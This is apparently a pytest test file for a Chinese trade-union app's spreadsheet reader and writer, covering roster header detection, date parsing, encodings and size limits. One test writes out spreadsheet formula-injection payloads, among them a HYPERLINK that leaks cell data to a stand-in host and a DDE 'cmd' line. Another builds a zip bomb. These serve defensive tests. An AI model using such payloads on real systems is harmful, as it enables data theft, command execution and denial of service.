import csv
import datetime as dt
import io
import pathlib
import zipfile
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from python_calamine import CalamineWorkbook

from gonghui.common.excel.cells import cell_date, cell_decimal, cell_text, is_number
from gonghui.common.excel.reader import Column, read_sheet, read_table
from gonghui.common.excel.writer import Sheet, write_xlsx

COLUMNS = [
    Column("name", ("姓名", "职工姓名"), required=True),
    Column("id_number", ("身份证号", "公民身份号码", "身份证号码"), required=True),
    Column("employer", ("工作单位", "单位")),
    Column("joined", ("入会时间", "入会日期")),
]


def roster_like_a_real_union() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["大丰区货车司机工会联合会会员花名册"])
    ws.merge_cells("A1:E1")
    ws.append(["填报单位：大丰区总工会", None, None, "填报日期：2024年6月"])
    ws.append(["序号", "职工姓名 ", "公民身份号码（必填）", "单位", "入会日期"])
    ws.append([1, "张 三", "11010519491231002X", "运满满平台", 45458])
    ws.append([2, "李四", 110105194912310020, None, dt.date(2024, 6, 14)])  # ID typed as a number
    ws.append([3, "王五", "１１０１０５１９４９１２３１００２Ｘ", None, "2024/6/15"])
    ws.merge_cells("D4:D6")  # one employer cell merged down three rows
    ws.append([None, None, None, None, None])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def test_finds_the_header_below_title_rows_and_maps_synonyms() -> None:
    table = read_table(roster_like_a_real_union(), "花名册.xlsx", COLUMNS)
    assert table.header_row == 3
    assert set(table.columns) == {"name", "id_number", "employer", "joined"}
    assert [row.number for row in table.rows] == [4, 5, 6]
    assert "序号" in table.ignored_headers


def test_merged_cells_are_filled_and_cells_normalised() -> None:
    rows = read_table(roster_like_a_real_union(), "r.xlsx", COLUMNS).rows
    assert [cell_text(r.values["employer"]) for r in rows] == ["运满满平台"] * 3
    assert cell_text(rows[2].values["id_number"]) == "11010519491231002X"
    assert cell_date(rows[0].values["joined"]) == dt.date(2024, 6, 15)  # serial 45458
    assert cell_date(rows[2].values["joined"]) == dt.date(2024, 6, 15)


def test_an_id_number_excel_stored_as_a_number_is_detectable() -> None:
    rows = read_table(roster_like_a_real_union(), "r.xlsx", COLUMNS).rows
    assert is_number(rows[1].values["id_number"])
    assert not is_number(rows[0].values["id_number"])


def test_csv_in_gb18030_as_saved_by_chinese_excel() -> None:
    text = io.StringIO()
    csv.writer(text).writerows([["姓名", "身份证号"], ["刘保柱", "11010519491231002X"]])
    table = read_table(text.getvalue().encode("gb18030"), "名单.csv", COLUMNS)
    assert table.rows[0].values["name"] == "刘保柱"


def test_missing_required_header_is_a_clear_chinese_error() -> None:
    with pytest.raises(ValidationError) as info:
        read_table("名字,电话\n张三,1\n".encode(), "x.csv", COLUMNS)
    assert info.value.code == "no_header" and "姓名" in info.value.messages[0]


@pytest.mark.parametrize(
    ("name", "data", "code"), [("x.pdf", b"%PDF", "file_type"), ("x.xlsx", b"not a zip", "unreadable")]
)
def test_wrong_or_broken_files(name: str, data: bytes, code: str) -> None:
    with pytest.raises(ValidationError) as info:
        read_table(data, name, COLUMNS)
    assert info.value.code == code


@pytest.mark.parametrize(
    ("value", "expected"), [("2024年5月1日", dt.date(2024, 5, 1)), ("20240501", dt.date(2024, 5, 1)), ("", None)]
)
def test_dates_typed_as_text(value: str, expected: dt.date | None) -> None:
    assert cell_date(value) == expected


def test_bad_date_and_number() -> None:
    with pytest.raises(ValidationError):
        cell_date("去年")
    with pytest.raises(ValidationError):
        cell_decimal("三千")
    assert str(cell_decimal("3,000元")) == "3000"


def test_writer_round_trips_through_the_reader() -> None:
    buffer = io.BytesIO()
    rows = [["张三", "110105********002X"], ["李四", "110105********0020"]]
    write_xlsx(buffer, [Sheet("会员", ["姓名", "身份证号"], rows)])
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0)
    assert sheet.to_python() == [["姓名", "身份证号"], *rows]


def test_a_sheet_builds_rows_a_slice_at_a_time_with_their_excel_numbers() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["会员花名册"])
    ws.append(["姓名", "身份证号"])
    for i in range(5):
        ws.append(["张三", f"id{i}"] if i != 2 else [None, None])  # row 5 is blank
    buffer = io.BytesIO()
    wb.save(buffer)
    sheet = read_sheet(buffer.getvalue(), "r.xlsx", COLUMNS)
    assert (sheet.header_row, len(sheet.cells)) == (2, 5)
    whole = [(r.number, r.values["id_number"]) for r in sheet.rows()]
    assert whole == [(3, "id0"), (4, "id1"), (6, "id3"), (7, "id4")]
    halves = [r.number for r in sheet.rows(0, 3) + sheet.rows(3)]
    assert halves == [3, 4, 6, 7]
    assert [r.number for r in read_table(buffer.getvalue(), "r.xlsx", COLUMNS).rows] == halves


def test_a_bad_date_text_stays_an_error_each_time_it_is_read() -> None:
    for _ in range(2):  # date texts are parsed once and remembered; errors must not be
        with pytest.raises(ValidationError, match="无法识别"):
            cell_date("去年春天")


def test_user_text_that_looks_like_a_formula_is_written_as_text(tmp_path: "pathlib.Path") -> None:
    target = tmp_path / "out.xlsx"
    evil = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "平常文字"]
    write_xlsx(str(target), [Sheet("名单", ["值"], [[v] for v in evil] + [[42]])])
    sheet = openpyxl.load_workbook(target).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*evil, 42]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "n"]


def _bomb() -> bytes:
    """A valid roster with one extra sheet of 30 MB of zeros: a few dozen KB on disk."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(roster_like_a_real_union())) as source, zipfile.ZipFile(out, "w") as bomb:
        for entry in source.infolist():
            bomb.writestr(entry, source.read(entry.filename), compress_type=zipfile.ZIP_DEFLATED)
        bomb.writestr("xl/worksheets/sheet2.xml", b"0" * 30_000_000, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    data = _bomb()
    assert len(data) < 200_000
    with pytest.raises(ValidationError, match="解压后过大") as refused:
        read_table(data, "名册.xlsx", COLUMNS)
    assert refused.value.code == "too_big"


def test_too_many_rows_is_refused_before_parsing(settings: Any) -> None:
    settings.SPREADSHEET_MAX_ROWS = 3
    with pytest.raises(ValidationError, match="超过一次最多 3 行"):
        read_table(roster_like_a_real_union(), "名册.xlsx", COLUMNS)
    rows = "姓名,身份证号\n" + "张三,11010519491231002X\n" * 5
    with pytest.raises(ValidationError, match="请分成几个文件导入"):
        read_table(rows.encode(), "名册.csv", COLUMNS)
    settings.SPREADSHEET_MAX_ROWS = 100
    assert read_table(roster_like_a_real_union(), "名册.xlsx", COLUMNS).rows
